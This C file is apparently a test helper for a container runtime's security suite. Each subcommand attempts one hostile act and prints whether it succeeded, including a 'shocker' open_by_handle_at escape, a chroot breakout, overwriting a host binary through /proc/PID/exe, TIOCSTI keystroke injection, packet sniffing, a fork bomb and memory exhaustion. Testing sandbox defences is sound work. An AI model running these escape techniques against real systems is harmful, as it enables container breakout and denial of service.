/*
 * Hostile acts that no shell command can do, for runtime-security.test.ts. `helper ACT ARGUMENTS...` says "ok" and exits 0,
 * or says the errno's name and exits 1. Static i386, so that it runs in any container.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define READ_IMPLIES_EXEC 0x0400000
#define REBOOT_CAD_OFF 0
#define MAX_CHILDREN 512

static const char *arg(char **argv, int i) { return argv[i] ? argv[i] : "0"; }

static long attach(char **argv)
{
	pid_t pid = atoi(arg(argv, 0));
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return -1;
	waitpid(pid, NULL, 0);
	return ptrace(PTRACE_DETACH, pid, 0, 0);
}

static long load_program(char **argv)
{
	struct bpf_insn code[] = {{.code = 0xb7, .imm = 1}, {.code = 0x95}};
	union bpf_attr attr = {.prog_type = BPF_PROG_TYPE_CGROUP_DEVICE, .insn_cnt = 2};
	attr.insns = (unsigned long)code;
	attr.license = (unsigned long)"GPL";
	return syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
}

static long watch_machine(char **argv)
{
	struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(attr)};
	return syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0);
}

/* To what it is: nobody is hurt. */
static long set_clock(char **argv)
{
	struct timespec now;
	clock_gettime(CLOCK_REALTIME, &now);
	return clock_settime(CLOCK_REALTIME, &now);
}

/* Ctrl-Alt-Del off: needs what a reboot needs. */
static long forbid_keys(char **argv) { return syscall(SYS_reboot, 0xfee1dead, 672274793, REBOOT_CAD_OFF, 0); }

/* shocker: from any file of an ext4 to its root, by the number that every ext4 root has; then runs the rest there. */
static long open_disk_root(char **argv)
{
	struct { struct file_handle head; unsigned inode, generation; } handle = {{8, 1}, 2, 0};
	int mount = open(arg(argv, 0), O_RDONLY);
	int root = syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY);
	if (root < 0 || fchdir(root) < 0)
		return -1;
	return execvp(argv[1], argv + 1);
}

static long type_into(char **argv)
{
	int fd = open(arg(argv, 0), O_RDWR | O_NOCTTY);
	return fd < 0 ? -1 : ioctl(fd, TIOCSTI, argv[1]);
}

static long become(char **argv)
{
	if (setresuid(atoi(arg(argv, 0)), atoi(arg(argv, 0)), atoi(arg(argv, 0))) < 0)
		return -1;
	return execvp(argv[1], argv + 1);
}

static long change_personality(char **argv) { return syscall(SYS_personality, READ_IMPLIES_EXEC); }

static long sniff(char **argv)
{
	struct ifreq request = {0};
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	strncpy(request.ifr_name, arg(argv, 0), IFNAMSIZ - 1);
	if (fd < 0 || ioctl(fd, SIOCGIFINDEX, &request) < 0)
		return -1;
	struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
	address.sll_ifindex = request.ifr_ifindex;
	return bind(fd, (struct sockaddr *)&address, sizeof(address));
}

static long abstract_socket(const char *name, int (*act)(int, const struct sockaddr *, socklen_t))
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	strncpy(address.sun_path + 1, name, sizeof(address.sun_path) - 2);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	return act(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)) < 0 ? -1 : fd;
}

static long connect_abstract(char **argv) { return abstract_socket(arg(argv, 0), connect); }

static long listen_abstract(char **argv)
{
	int fd = abstract_socket(arg(argv, 0), bind);
	return fd < 0 || listen(fd, 8) < 0 ? -1 : pause();
}

static long open_shared_memory(char **argv)
{
	int id = shmget(atoi(arg(argv, 0)), 0, 0);
	return id < 0 ? -1 : shmat(id, NULL, SHM_RDONLY) == (void *)-1 ? -1 : 0;
}

static long make_shared_memory(char **argv) { return shmget(atoi(arg(argv, 0)), 4096, IPC_CREAT | 0666); }

static long new_user_namespace(char **argv)
{
	struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
	long pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid == 0)
		_exit(0);
	return pid < 0 ? -1 : waitpid(pid, NULL, 0);
}

static long fork_bomb(char **argv)
{
	pid_t children[MAX_CHILDREN];
	int wanted = atoi(arg(argv, 0)), made = 0;
	while (made < wanted && made < MAX_CHILDREN && (children[made] = fork()) >= 0)
		if (children[made++] == 0)
			for (;;)
				pause();
	int failure = errno;
	for (int i = 0; i < made; i++) {
		kill(children[i], SIGKILL);
		waitpid(children[i], NULL, 0);
	}
	errno = failure;
	return made == wanted ? 0 : -1;
}

static long eat_memory(char **argv)
{
	size_t size = (size_t)atoi(arg(argv, 0)) << 20;
	char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (memory == MAP_FAILED)
		return -1;
	memset(memory, 1, size);
	return 0;
}

/* The way out of a chroot: a root of one's own below the folder one stands in, then up past it. */
static long leave_chroot(char **argv)
{
	mkdir("/hole", 0700);
	int here = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot("/hole") < 0 || fchdir(here) < 0)
		return -1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -1;
	if (chroot(".") < 0)
		return -1;
	return execv(argv[0], argv);
}

/* Writes to what is still being executed as soon as it is not; gives up after ten seconds. */
static long overwrite(char **argv)
{
	for (int i = 0; i < 1000; i++) {
		int fd = open(arg(argv, 0), O_WRONLY);
		if (fd >= 0)
			return write(fd, "overwritten", 11);
		if (errno != ETXTBSY)
			return -1;
		usleep(10000);
	}
	return -1;
}

/* Keeps the program of the first process that comes by and runs none of the container's, and overwrites it afterwards. */
static long seize(char **argv)
{
	char path[300], text[300];
	for (;;) {
		DIR *list = opendir("/proc");
		for (struct dirent *entry; list && (entry = readdir(list));) {
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			ssize_t size = atoi(entry->d_name) ? readlink(path, text, sizeof(text) - 1) : 0;
			if (size > 0)
				text[size] = 0;
			if (size <= 0 || !strncmp(text, "/bin/busybox", 12) || !strncmp(text, "/h/helper", 9))
				continue;
			int fd = open(path, O_RDONLY);
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			if (fd >= 0)
				return overwrite((char *[]){path});
		}
		closedir(list);
	}
}

/* Every process that comes by is looked into until /tmp/enough exists: programs that are not busybox, folders it holds. */
static void look_into(const char *pid)
{
	char path[300], text[300];
	static const char *const links[] = {"exe", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "fd/9", "fd/12"};
	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		ssize_t size = readlink(path, text, sizeof(text) - 1);
		if (size <= 0)
			continue;
		text[size] = 0;
		printf("%s %s\n", links[i], text);
	}
}

static long spy(char **argv)
{
	while (access("/tmp/enough", F_OK) < 0) {
		DIR *list = opendir("/proc");
		for (struct dirent *entry; list && (entry = readdir(list));)
			if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid())
				look_into(entry->d_name);
		closedir(list);
	}
	return 0;
}

/* Two names change places again and again until /tmp/enough exists. */
static long swap(char **argv)
{
	while (access(arg(argv, 2), F_OK) < 0)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2) < 0)
			return -1;
	return 0;
}

/* Names of those among the given syscall numbers that are let through; with arguments that no call can use. */
static long try_calls(char **argv)
{
	for (; *argv; argv++)
		if (syscall(atoi(*argv), -1, -1, -1, -1, -1, -1) != -1 || errno != EPERM)
			printf("%s:%s ", *argv, strerrorname_np(errno));
	return 0;
}

static const struct { const char *name; long (*act)(char **argv); } acts[] = {
	{"attach", attach}, {"load-program", load_program}, {"watch-machine", watch_machine}, {"set-clock", set_clock},
	{"forbid-keys", forbid_keys}, {"open-disk-root", open_disk_root}, {"type-into", type_into},
	{"become", become}, {"change-personality", change_personality}, {"sniff", sniff},
	{"connect", connect_abstract}, {"listen", listen_abstract}, {"open-shm", open_shared_memory},
	{"make-shm", make_shared_memory}, {"new-user-namespace", new_user_namespace}, {"fork-bomb", fork_bomb},
	{"eat-memory", eat_memory}, {"leave-chroot", leave_chroot}, {"overwrite", overwrite}, {"seize", seize}, {"spy", spy}, {"swap", swap},
	{"try-calls", try_calls},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(acts) / sizeof(acts[0]); i++) {
		if (strcmp(argv[1], acts[i].name))
			continue;
		long result = acts[i].act(argv + 2);
		printf("%s\n", result < 0 ? strerrorname_np(errno) : "ok");
		return result < 0;
	}
	return 2;
}
